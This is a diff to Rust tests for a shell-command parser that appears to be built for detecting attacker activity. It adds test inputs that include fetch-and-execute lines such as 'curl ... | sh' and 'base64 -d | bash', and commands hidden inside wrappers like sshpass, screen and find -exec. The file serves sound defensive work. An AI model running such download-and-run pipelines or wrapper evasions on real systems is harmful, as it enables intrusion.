@@ -1,6 +1,6 @@
 //! Lines as attackers type them, and the commands in them.
 
-use vespid_shell::{Line, MAX_COMMANDS, SimpleCommand, parse};
+use vespid_shell::{Line, MAX_COMMANDS, MAX_WORDS, SimpleCommand, parse};
 
 /// The commands of a line as `via, via: line`.
 fn told(text: &str) -> Vec<String> {
@@ -90,7 +90,36 @@ fn wrappers_come_off_and_stay_visible() {
     ] {
         assert_eq!(told(text), commands, "{text}");
     }
-    for text in ["sudo -l", "env", "sh x.sh -c y", "command -v curl", "su -", "busybox --list", "timeout 5"] {
+    for (text, inner) in [
+        ("bash -o pipefail -c 'id'", "bash -c: id"),
+        ("bash --rcfile /dev/null -c id", "bash -c: id"),
+        ("sh -c -- 'id'", "sh -c: id"),
+        ("su root --command='id'", "su -c: id"),
+        ("su -s /bin/sh nobody -c id", "su -c: id"),
+        ("trap 'id' EXIT", "trap: id"),
+        ("flock -w 3 /tmp/l id", "flock: id"),
+        ("flock /tmp/l -c 'id'", "flock -c: id"),
+        ("script -qc 'id' /dev/null", "script -c: id"),
+        ("sshpass -p x id", "sshpass: id"),
+        ("screen -dmS x id", "screen: id"),
+        ("coproc id", "id"),
+        ("find / -exec true {} \\; -exec id {} +", "find -exec: id {}"),
+    ] {
+        assert_eq!(told(text).last().map(String::as_str), Some(inner), "{text}");
+    }
+    for text in [
+        "trap - EXIT",
+        "trap -l",
+        "flock /tmp/l",
+        "screen -ls",
+        "sudo -l",
+        "env",
+        "sh x.sh -c y",
+        "command -v curl",
+        "su -",
+        "busybox --list",
+        "timeout 5",
+    ] {
         assert_eq!(told(text), [text], "runs nothing it names");
     }
 }
@@ -107,7 +136,13 @@ fn substitutions_and_control_words_hide_nothing() {
         ("if [ -f x ]; then rm x; else id; fi", vec!["[ -f x ]", "rm x", "id"]),
         ("for i in 1 $(seq 3); do wget $i; done", vec!["$(...): seq 3", "wget $i"]),
         ("while true; do sleep 1; done", vec!["true", "sleep 1"]),
-        ("case $(uname -m) in x86_64|amd64) wget a;; *) wget b;; esac; id", vec!["wget a", "wget b", "id"]),
+        (
+            "case $(uname -m) in x86_64|amd64) wget a;; *) wget b;; esac; id",
+            vec!["$(...): uname -m", "wget a", "wget b", "id"],
+        ),
+        ("echo $((1 + $(nproc)))", vec!["echo $((1 + $(nproc)))", "$(...): nproc"]),
+        ("cat <<E\na $(id) `w`\nE\nps", vec!["cat << E", "$(...): id", "`...`: w", "ps"]),
+        ("cat <<'E'\n$(id)\nE\nps", vec!["cat << E", "ps"]),
         ("f() { id; }; f", vec!["id", "f"]),
         ("function g { w; }", vec!["w"]),
     ] {
@@ -119,15 +154,29 @@ fn substitutions_and_control_words_hide_nothing() {
 fn a_command_knows_its_program_parent_and_pipeline() {
     let command = last("curl -s http://x/a | sudo tee /tmp/a | sh");
     assert_eq!(command.image.as_deref(), Some("/bin/sh"));
-    assert_eq!(command.piped_from, ["/usr/bin/tee", "/usr/bin/sudo", "/usr/bin/curl"]);
+    assert_eq!(command.piped_from, ["/usr/bin/tee", "/usr/bin/sudo", "/usr/bin/curl"].map(Into::into));
     assert_eq!(command.parent_image, None);
 
     let command = last("sh -c 'echo aaa | base64 -d | bash'");
-    assert_eq!(command.piped_from, ["/usr/bin/base64", "/usr/bin/echo"]);
+    assert_eq!(command.piped_from, ["/usr/bin/base64", "/usr/bin/echo"].map(Into::into));
     assert_eq!(command.parent_image.as_deref(), Some("/bin/sh"));
 
-    let command = last("(id; curl x) | sh");
-    assert_eq!(command.piped_from, ["/usr/bin/curl"]);
+    assert_eq!(last("(id; curl x) | sh").piped_from, ["/usr/bin/curl", "/usr/bin/id"].map(Into::into));
+    for text in [
+        "(curl x;) | sh",
+        "{ curl x; } | sh",
+        "{ curl x; } 2>/dev/null | sh",
+        "if true; then curl x; fi | sh",
+        "while true; do curl x; done | sh",
+        "case a in a) curl x;; esac | sh",
+        "curl x | (sh)",
+        "curl x | { cd /tmp; sh; }",
+        "curl x | while read l; do sh; done",
+    ] {
+        let found = parse(text).commands.into_iter().find(|it| it.image.as_deref() == Some("/bin/sh"));
+        let upstream = found.unwrap_or_default().piped_from;
+        assert!(upstream.iter().any(|image| &**image == "/usr/bin/curl"), "{text}: {upstream:?}");
+    }
     assert!(last("curl x; sh").piped_from.is_empty());
     assert_eq!(last("./x").image.as_deref(), Some("./x"));
 }
@@ -165,11 +214,15 @@ fn limits_cut_and_say_so() {
     let Line { commands, truncated } = parse(&"a;".repeat(MAX_COMMANDS + 1));
     assert_eq!((commands.len(), truncated), (MAX_COMMANDS, true));
     assert!(parse(&"$(".repeat(100)).truncated);
-    assert!(parse(&"a ".repeat(10_000)).truncated);
+    for part in ["a ", "A=b ", ">a ", "2>&1 "] {
+        let Line { commands, truncated } = parse(&part.repeat(10_000));
+        let parts = commands.iter().map(|it| it.argv.len() + it.assignments.len() + it.redirects.len());
+        assert!(truncated && parts.max().unwrap_or(0) <= MAX_WORDS, "{part}");
+    }
     assert!(!parse("id; w").truncated);
     let long = format!("/{}/sh -c '{}'", "x".repeat(900_000), "a;".repeat(1000));
     let copied: usize =
-        parse(&long).commands.iter().filter_map(|it| it.parent_image.as_ref()).map(String::len).sum();
+        parse(&long).commands.iter().filter_map(|it| it.parent_image.as_ref()).map(|image| image.len()).sum();
     assert!(copied < 1 << 20, "{copied} bytes of names were copied");
 }
 
